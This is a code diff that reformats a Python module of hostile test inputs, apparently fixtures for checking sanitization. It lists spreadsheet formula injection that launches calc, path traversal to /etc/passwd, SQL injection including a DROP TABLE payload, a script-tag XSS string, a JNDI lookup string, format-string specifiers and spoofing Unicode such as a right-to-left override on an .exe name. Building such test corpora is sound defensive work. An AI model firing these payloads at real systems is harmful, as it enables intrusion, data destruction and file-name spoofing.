@@ -6,24 +6,10 @@ from typing import Final
 
 FORMULAS: Final = ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", '=HYPERLINK("http://x","y")')
 PATHS: Final = (
-    "../../etc/passwd",
-    "/etc/passwd",
-    "C:\\Windows\\..",
-    "a/b",
-    ".",
-    "..",
-    "~",
-    "CON",
-    "file:///etc/passwd",
+    *("../../etc/passwd", "/etc/passwd", "C:\\Windows\\..", "a/b", ".", "..", "~", "CON", "file:///etc/passwd"),
 )
 SQL: Final = (
-    "'; DROP TABLE findings; --",
-    '" OR 1=1 --',
-    "`x`",
-    "%' OR '1'='1",
-    "_%",
-    "x' UNION SELECT 1 --",
-    "\\' OR 1",
+    *("'; DROP TABLE findings; --", '" OR 1=1 --', "`x`", "%' OR '1'='1", "_%", "x' UNION SELECT 1 --", "\\' OR 1"),
 )
 MARKUP: Final = (
     "<script>document.title='owned'</script>",
@@ -36,19 +22,8 @@ MARKUP: Final = (
 )
 TEMPLATES: Final = ("{{7*7}}", "${jndi:ldap://x/a}", "$says", "%s%n", "{0}", "#{1}", "[red]x[/red]", ":bomb:", "$ref")
 INVISIBLE: Final = (
-    *(
-        "\u202egnp.exe",
-        "\u2066x\u2069",
-        "\u200f",
-        "\u061c",
-        "\ufeff",
-        "\u200b",
-        "\u2028",
-        "\u2029",
-        "\u00ad",
-        " ",
-        "  x  ",
-    ),
+    *("\u202egnp.exe", "\u2066x\u2069", "\u200f", "\u061c", "\ufeff", "\u200b", "\u2028", "\u2029", "\u00ad"),
+    *(" ", "  x  "),
     *("a\u0301" * 100, "\U000e0041", "\ufdd0", "\uffff"),
 )
 STEERING: Final = (
